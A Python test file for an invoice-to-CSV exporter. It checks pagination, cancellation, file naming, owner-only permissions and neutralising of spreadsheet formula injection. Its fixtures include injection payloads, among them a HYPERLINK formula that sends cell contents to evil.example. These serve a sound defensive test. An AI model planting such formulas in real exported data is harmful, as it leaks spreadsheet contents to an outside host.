"""Exporting a whole search to CSV through the real client against a sandbox."""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import re
import stat
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from enkash_tui.api import EnkashClient
from enkash_tui.api.models import InvoiceFilter
from enkash_tui.domain.exports import HEADER
from enkash_tui.domain.invoices import BY_KEY, InvoiceQuery
from enkash_tui.local.exports import default_export_path, export_invoices
from tests.support.sandboxes import RunningSandbox

from .conftest import MakeClient

TODAY = dt.date(2026, 11, 25)
AMOUNTS = ("Base", "CGST", "SGST", "IGST", "TDS", "Net", "Received", "Balance")
# What no cell may hold: C0 (tab, CR, LF too), DEL, C1, bidi controls.
CONTROLS = re.compile("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def opens_as_text(cell: str) -> bool:
    """No control characters, and a spreadsheet sees no formula: nothing it would start one
    with (even past spaces), or the ``'`` that makes it text."""
    return not CONTROLS.search(cell) and (
        cell.startswith("'") or not cell.lstrip(" ").startswith(("=", "+", "-", "@"))
    )


async def test_every_page_is_written_with_plain_number_amounts(
    client: EnkashClient, tmp_path: Path
) -> None:
    query = InvoiceQuery("Open", InvoiceFilter(receivable_statuses=["UNPAID", "PARTIALLY_PAID"]))
    expected = (await client.search_invoices(query.filters, limit=1)).total
    assert expected and expected > 100  # more than one page of 100
    seen: list[tuple[int, int | None]] = []
    path = tmp_path / "open.csv"

    done = await export_invoices(
        client,
        query,
        path,
        lambda done, total: seen.append((done, total)),
        today=TODAY,
        page_size=100,
    )

    assert done.rows == expected and done.path == path
    rows = list(csv.reader(path.open(encoding="utf-8")))
    assert rows[0] == list(HEADER)
    assert len(rows) == expected + 1
    assert len({row[1] for row in rows[1:]}) == expected  # no invoice twice across pages
    balance = rows[0].index("Balance")
    assert all("₹" not in row[balance] and "," not in row[balance] for row in rows[1:])
    assert seen[-1] == (expected, expected)
    assert [done for done, _ in seen] == sorted(done for done, _ in seen)
    assert not list(tmp_path.glob("*.part")) and not list(tmp_path.glob(".*.part"))


async def test_a_cancelled_export_leaves_no_file(client: EnkashClient, tmp_path: Path) -> None:
    query = BY_KEY["7"].build(TODAY)
    path = tmp_path / "all.csv"
    started = asyncio.Event()

    def progress(done: int, total: int | None) -> None:
        started.set()

    task = asyncio.create_task(
        export_invoices(client, query, path, progress, today=TODAY, page_size=50)
    )
    await started.wait()
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    assert not path.exists()
    assert not list(tmp_path.iterdir())


def test_the_default_file_name_says_what_and_when(tmp_path: Path) -> Any:
    query = BY_KEY["2"].build(TODAY)
    assert default_export_path(query, TODAY, tmp_path) == tmp_path / (
        "invoices-overdue-2026-11-25.csv"
    )


HOSTILE = {
    # invoice number -> what EnKash holds in the customer's name and the PO number
    "HOSTILE-1": ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1"),
    "HOSTILE-2": ("@SUM(A1:A9)", "-2+3"),
    "HOSTILE-3": ("Acme\tTraders\r\nLtd", "\t=1+2\rmore"),
}


async def test_cells_a_spreadsheet_would_run_are_written_as_text_and_amounts_as_numbers(
    start_sandbox: Callable[..., RunningSandbox], make_client: MakeClient, tmp_path: Path
) -> None:
    sandbox = start_sandbox()
    client = await make_client(sandbox.url)
    query = BY_KEY["7"].build(TODAY)  # every invoice
    ids = [i.invoice_id for i in (await client.search_invoices(query.filters, limit=4)).items]
    for invoice_id, (number, (name, po)) in zip(ids[:3], HOSTILE.items(), strict=True):
        sandbox.conn.execute(
            "UPDATE invoices SET invoice_number = ?, customer_legal_name = ?, po_number = ? "
            "WHERE invoice_id = ?",
            (number, name, po, invoice_id),
        )
    # A credit: a negative amount is a number, not a formula.
    sandbox.conn.execute("UPDATE invoices SET tds_paise = -12050 WHERE invoice_id = ?", (ids[3],))

    done = await export_invoices(client, query, tmp_path / "all.csv", lambda *_: None, today=TODAY)

    rows = {row["Invoice id"]: row for row in read_csv(done.path)}
    assert len(rows) == done.rows
    first, second, third = (rows[invoice_id] for invoice_id in ids[:3])
    assert first["Customer"] == "'" + HOSTILE["HOSTILE-1"][0]
    assert first["PO number"] == "'+1"
    assert second["Customer"] == "'@SUM(A1:A9)"
    assert second["PO number"] == "'-2+3"
    assert "Acme" in third["Customer"] and "Ltd" in third["Customer"]
    assert "more" in third["PO number"]
    texts = [name for name in HEADER if name not in (*AMOUNTS, "Days overdue")]
    assert all(opens_as_text(row[name]) for row in rows.values() for name in texts)
    # Amounts read back as plain numbers: no quote, no ₹, no grouping; the credit stays negative.
    assert rows[ids[3]]["TDS"] == "-120.50"
    for row in rows.values():
        for name in AMOUNTS:
            assert Decimal(row[name]) == Decimal(row[name]).quantize(Decimal("0.01"))
        assert int(row["Days overdue"]) >= 0


async def test_exporting_twice_keeps_both_files_and_writes_them_for_the_owner_only(
    client: EnkashClient, tmp_path: Path
) -> None:
    query = BY_KEY["2"].build(TODAY)
    path = default_export_path(query, TODAY, tmp_path)

    first = await export_invoices(client, query, path, lambda *_: None, today=TODAY)
    kept = first.path.read_bytes()
    second = await export_invoices(client, query, path, lambda *_: None, today=TODAY)

    assert first.path == path
    assert second.path == tmp_path / "invoices-overdue-2026-11-25-2.csv"
    assert first.path.read_bytes() == kept  # not overwritten
    assert second.path.read_bytes() == kept  # the same search, written again in full
    for written in (first.path, second.path):
        assert stat.S_IMODE(written.stat().st_mode) == 0o600
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        "invoices-overdue-2026-11-25-2.csv",
        "invoices-overdue-2026-11-25.csv",
    ]


async def test_a_file_that_appears_under_the_name_while_exporting_is_not_replaced(
    client: EnkashClient, tmp_path: Path
) -> None:
    # Another program (or a second export) takes the name after the export has begun.
    path = tmp_path / "overdue.csv"

    def progress(done: int, total: int | None) -> None:
        if not path.exists():
            path.write_text("someone else's file", encoding="utf-8")

    done = await export_invoices(
        client, BY_KEY["2"].build(TODAY), path, progress, today=TODAY, page_size=50
    )

    assert path.read_text(encoding="utf-8") == "someone else's file"
    assert done.path == tmp_path / "overdue-2.csv"
    assert len(read_csv(done.path)) == done.rows
